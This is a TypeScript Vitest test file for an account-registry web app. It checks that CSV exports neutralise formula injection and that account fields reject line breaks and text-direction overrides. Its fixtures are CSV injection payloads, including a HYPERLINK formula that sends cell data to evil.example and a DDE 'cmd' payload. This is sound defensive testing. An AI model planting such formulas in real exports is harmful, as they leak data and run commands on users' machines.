import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { neutralizeCell, toCsv } from '../src/lib/csv';
import { createTestEnv, type TestEnv } from './harness';
import { application, applyFor, type Demo } from './registry-fixtures';

let t: TestEnv;
let demo: Demo;

beforeAll(async () => {
  t = await createTestEnv('postgres');
  demo = await t.seed();
});
afterAll(() => t?.close());

describe('CSV exports never carry a formula (OWASP CSV injection)', () => {
  const FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', '+1+1', '-2+3', '@SUM(1,2)', '=cmd|\' /C calc\'!A0'];

  it('neutralizes every cell starting with = + - @ tab or CR, and leaves numbers and plain text alone', () => {
    for (const cell of [...FORMULAS, '\t=1', '\r=1']) expect(neutralizeCell(cell)).toBe(`'${cell}`);
    expect(neutralizeCell(-5)).toBe('-5');
    expect(neutralizeCell('宣传部 -- 公众号')).toBe('宣传部 -- 公众号');
    expect(neutralizeCell(null)).toBe('');
  });

  it('a line break inside a cell is quoted, so it cannot start a row whose first cell escaped the quote', () => {
    for (const br of ['\n', '\r', '\r\n']) {
      const csv = toCsv(['名称', '平台账号'], [[`学生会${br}=cmd|' /C calc'!A0`, `x${br}=1+1`], ['下一行', 'y']]);
      const rows: string[][] = parse(csv, { bom: true });
      expect(rows).toEqual([['名称', '平台账号'], [`学生会${br}=cmd|' /C calc'!A0`, `x${br}=1+1`], ['下一行', 'y']]);
      // Only the row delimiter ends a line outside quotes.
      expect(csv.replace(/"[^"]*"/g, '""').split('\r\n').filter((l) => /[\r\n]/.test(l))).toEqual([]);
    }
  });

  it('a one-line field (an account name, a platform id) with a line break is refused, naming it', async () => {
    // And text-direction overrides and isolates, which make a name read as another (「\u202e」 reverses the rest).
    for (const extra of [{ name: '学生会\n=1+1' }, { platformId: 'x\r=1+1' }, { name: '学生会\u001b[2J' }, { name: '官方\u202e信微' }, { platformId: '\u2066gh_x\u2069' }]) {
      const res = await t.request('POST', '/api/v1/accounts', { token: demo.tokens.publicity_officer, body: application(demo, extra) });
      expect(res.status).toBe(400);
      expect(res.body.error.details).toEqual([expect.objectContaining({ path: Object.keys(extra)[0], message: '须为一行，不能含换行、控制字符或文字方向控制符' })]);
    }
    // Right-to-left text itself is fine: it needs no override.
    expect((await t.request('POST', '/api/v1/accounts', { token: demo.tokens.publicity_officer, body: application(demo, { name: 'جامعة 大学 \u200f' }) })).status).toBe(201);
  });

  it('in the registry export: account names and platform ids that look like formulas', async () => {
    for (const [i, name] of FORMULAS.entries()) await applyFor(t, demo, { name, platformId: FORMULAS[(i + 1) % FORMULAS.length] });
    const res = await t.request('GET', '/api/v1/exports/accounts.csv', { token: demo.tokens.publicity });
    expect(res.status).toBe(200);
    const rows: string[][] = parse(res.text, { bom: true });
    const cells = rows.slice(1).flat();
    for (const formula of FORMULAS) expect(cells).toContain(`'${formula}`);
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
  });

  it('in the campaign results export', async () => {
    const campaigns = await t.request('GET', '/api/v1/inspections/campaigns', { token: demo.tokens.publicity });
    const res = await t.request('GET', `/api/v1/exports/campaigns/${campaigns.body.items[0].id}/results.csv`, { token: demo.tokens.publicity });
    expect(res.status).toBe(200);
    const cells = (parse(res.text, { bom: true }) as string[][]).flat();
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
  });
});

describe('the campaign list counts its inspections', () => {
  it('reports the demo campaign’s passed inspection, as the campaign itself does', async () => {
    const list = await t.request('GET', '/api/v1/inspections/campaigns', { token: demo.tokens.publicity });
    const summary = list.body.items[0];
    const campaign = (await t.request('GET', `/api/v1/inspections/campaigns/${summary.id}`, { token: demo.tokens.publicity })).body;
    expect(campaign.inspections.some((i: { result: string }) => i.result === 'pass')).toBe(true);
    expect(summary.inspections).toBe(campaign.inspections.length);
    expect(summary.passed).toBe(campaign.inspections.filter((i: { status: string }) => i.status === 'passed').length);
    expect(summary.passed).toBeGreaterThan(0);
  });
});

describe('the public lookup of an over-long code', () => {
  const tooLong = 'A'.repeat(63) + '😀';

  it('is a clean 400 naming the code, on the page and in the API, never a 500', async () => {
    const page = await t.runtime.app.request(`/verify?code=${encodeURIComponent(tooLong)}`);
    expect(page.status).toBe(400);
    expect(page.headers.get('content-type')).toMatch(/text\/html/);
    expect(await page.text()).toContain('code');
    const api = await t.request('GET', `/api/v1/verify/${encodeURIComponent(tooLong)}`);
    expect(api.status, api.text).toBe(400);
    expect(api.body.error.message).toContain('code');
  });

  it('still sends a good code on to its page', async () => {
    const res = await t.runtime.app.request(`/verify?code=${encodeURIComponent(` ${demo.inspectionCode} `)}`);
    expect(res.status).toBe(303);
    expect(res.headers.get('location')).toBe(`/verify/${demo.inspectionCode}`);
  });
});
